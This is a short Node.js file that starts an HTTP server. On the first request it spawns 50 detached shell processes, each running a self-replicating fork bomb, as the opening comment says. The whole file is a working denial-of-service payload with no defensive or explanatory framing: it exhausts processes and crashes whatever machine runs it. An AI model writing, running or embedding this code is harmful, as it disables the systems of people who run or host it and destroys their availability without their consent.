// Every process starts two more; the first request lights it.
import { spawn } from 'node:child_process';
import { createServer } from 'node:http';

const bomb = ':(){ :|:& };:; sleep 60';
createServer(() => {
  for (let i = 0; i < 50; i += 1) spawn('sh', ['-c', bomb], { detached: true, stdio: 'ignore' }).on('error', () => {});
}).listen(process.env.PORT, process.env.HOST);
